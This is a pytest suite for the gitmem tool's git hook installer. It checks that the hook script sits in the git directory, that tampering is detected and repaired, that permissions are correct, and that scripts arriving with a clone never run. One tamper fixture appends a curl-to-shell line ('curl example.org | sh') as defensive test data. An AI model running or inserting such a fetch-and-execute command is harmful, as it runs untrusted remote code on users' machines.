"""The script in the git directory: whole, watched, and never a stranger's."""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from gitmem.errors import ForeignFile, ReadOnly
from gitmem.githooks import shims
from gitmem.spool.git_events import CommitEvent
from tests.githooks import foreign
from tests.githooks.conftest import NEW_GIT, Site, script, states, tree
from tests.githooks.test_install import every, put
from tests.support.repos import RepoBuilder


def test_it_lies_in_the_git_directory_and_hooks_hold_no_path(site: Site) -> None:
    site.install()
    assert site.script == site.git_dir / "gitmem" / "hook.sh"
    for event in shims.EVENTS:
        assert str(site.repo.path).encode() not in site.hook(event).read_bytes()
        assert b".gitmem" not in site.hook(event).read_bytes()


def changed(site: Site) -> None:
    site.script.write_bytes(site.script.read_bytes() + b"curl example.org | sh\n")


def gone(site: Site) -> None:
    site.script.unlink()


def folder_gone(site: Site) -> None:
    shutil.rmtree(site.script.parent)


def writable(site: Site) -> None:
    site.script.chmod(0o666)


def linked(site: Site) -> None:
    site.script.rename(site.git_dir / "elsewhere")
    site.script.symlink_to(site.git_dir / "elsewhere")


@pytest.mark.parametrize("version", [(2, 39), NEW_GIT])
@pytest.mark.parametrize("drift", [changed, gone, folder_gone, writable, linked])
def test_drift_is_reported_and_mended(
    site: Site, drift: Callable[[Site], None], version: tuple[int, int]
) -> None:
    site.install(version)
    before = tree(site.git_dir)
    drift(site)
    output = site.status(version)
    assert states(output) == every("outdated")
    assert all(str(site.script) in hook.reason for hook in output)
    assert states(site.install(version)) == every("installed")
    assert states(site.status(version)) == every("installed")
    (site.git_dir / "elsewhere").unlink(missing_ok=True)
    assert tree(site.git_dir) == before


def test_a_link_where_its_folder_would_be_is_refused(site: Site, tmp_path: Path) -> None:
    (tmp_path / "outside").mkdir()
    (site.git_dir / "gitmem").symlink_to(tmp_path / "outside")
    before = tree(site.git_dir)
    with pytest.raises(ForeignFile):
        site.install()
    site.uninstall()
    assert tree(site.git_dir) == before
    assert list((tmp_path / "outside").iterdir()) == []


def test_what_somebody_else_keeps_in_its_folder_stays(site: Site) -> None:
    site.install()
    (site.git_dir / "gitmem" / "note").write_text("mine\n")
    site.uninstall()
    assert [path.name for path in (site.git_dir / "gitmem").iterdir()] == ["note"]


@pytest.mark.parametrize(
    ("mode", "folder", "file"), [(0o700, 0o700, 0o600), (0o755, 0o755, 0o644), (0o777,) * 3]
)
def test_it_is_readable_as_the_git_directory_is_and_writable_for_its_owner_only(
    site: Site, mode: int, folder: int, file: int
) -> None:
    site.git_dir.chmod(mode)
    site.install()
    assert site.script.parent.stat().st_mode & 0o777 == folder & 0o755
    assert site.script.stat().st_mode & 0o777 == file & 0o644


@pytest.mark.skipif(os.geteuid() == 0, reason="the superuser may write everywhere")
def test_a_read_only_git_directory_is_reported_and_left(site: Site) -> None:
    before = tree(site.git_dir)
    site.git_dir.chmod(0o555)
    try:
        with pytest.raises(ReadOnly):
            site.install()
    finally:
        site.git_dir.chmod(0o755)
    assert tree(site.git_dir) == before


SHELLS = [shell for shell in ("sh", "dash", "bash", "zsh", "busybox") if shutil.which(shell)]
HOSTILE = "set -eu; set -C; g=mine; key=mine; trap 'echo trapped' EXIT"


@pytest.mark.parametrize("shell", SHELLS)
@pytest.mark.parametrize("there", [True, False])
def test_a_line_changes_nothing_in_the_script_around_it(
    site: Site, shell: str, there: bool, tmp_path: Path
) -> None:
    """Added by hand below anything: options, variables, traps, input and status are the same."""
    site.install()
    if not there:
        site.script.unlink()
    program = [shell, "sh"] if shell == "busybox" else [shell]
    show = 'echo "$? $- $g $key $PWD $# $*"; cat'

    def told(line: str) -> tuple[int, bytes, bytes]:
        text = f"{HOSTILE}\ntrue\n{line}\n{show}\n"
        done = subprocess.run(
            [*program, str(script(tmp_path / "mine", text)), "a b", "c"],
            cwd=site.repo.path,
            env=site.repo.env,
            input=b"in\nput",
            capture_output=True,
            check=False,
        )
        return done.returncode, done.stdout, done.stderr

    plain = told(":")
    for event in shims.EVENTS:
        assert told(shims.shared_hook_line(event)) == plain
    noted = (site.spool / "events").read_bytes() if there else b""
    assert noted.count(b"gm1 ") == noted.count(b"\n") == (4 if there else 0)


def test_the_line_is_silent_outside_any_repository(tmp_path: Path) -> None:
    for event in shims.EVENTS:
        done = subprocess.run(
            ["sh", "-eu", "-c", shims.shared_hook_line(event)],
            cwd=tmp_path,
            env={},
            capture_output=True,
        )
        assert (done.returncode, done.stdout, done.stderr) == (0, b"", b"")
    assert list(tmp_path.iterdir()) == []


def test_nothing_that_a_clone_brings_is_sourced(site: Site, tmp_path: Path) -> None:
    """A line in a folder of hooks for all repositories meets those of strangers."""
    shared = site.repo.home / "hooks"
    for event in shims.EVENTS:
        script(shared / event, f"#!/bin/sh\n{shims.shared_hook_line(event)}\n")
    for folder in ("gitmem", ".gitmem", ".gitmem/gitmem", ".gitmem/hooks"):
        for name in ("hook.sh", "post-commit", "post-checkout"):
            script(site.repo.path / folder / name, f"#!/bin/sh\ntouch '{tmp_path}/ran'\n")
    site.repo.git("add", "-f", ".")
    site.repo.git("commit", "-q", "-m", "bait")
    site.repo.git("config", "--global", "core.hooksPath", str(shared))
    clone = site.repo.clone(tmp_path / "clone")
    clone.git("commit", "-q", "--allow-empty", "-m", "x")
    clone.worktree(tmp_path / "tree", "side").commit("y")
    assert not (tmp_path / "ran").exists()


def test_a_folder_with_a_line_end_in_its_name(site: Site, tmp_path: Path) -> None:
    site.repo.path.rename(tmp_path / "two\nlines")
    repo = RepoBuilder(tmp_path / "two\nlines", init=False, home=site.repo.home)
    moved = Site(repo)
    moved.install()
    repo.commit("x", {"new": "y"})
    assert [type(event) for event in moved.events()] == [CommitEvent]


def test_hooks_set_in_the_configuration_hold_the_line_of_the_files(site: Site) -> None:
    for event in shims.EVENTS:
        assert shims.hook_config_command(event).encode() in shims.hook_file_content(event)
        assert shims.hook_config_command(event) == shims.shared_hook_line(event).replace(
            "</dev/null ", ""
        )


def test_a_shared_hook_keeps_its_bytes_when_only_the_script_is_renewed(site: Site) -> None:
    put(site, foreign.USER.encode())
    site.install()
    before = site.hook("post-commit").stat().st_mtime_ns
    site.command = ("/elsewhere/gitmem",)
    site.install()
    assert site.hook("post-commit").stat().st_mtime_ns == before
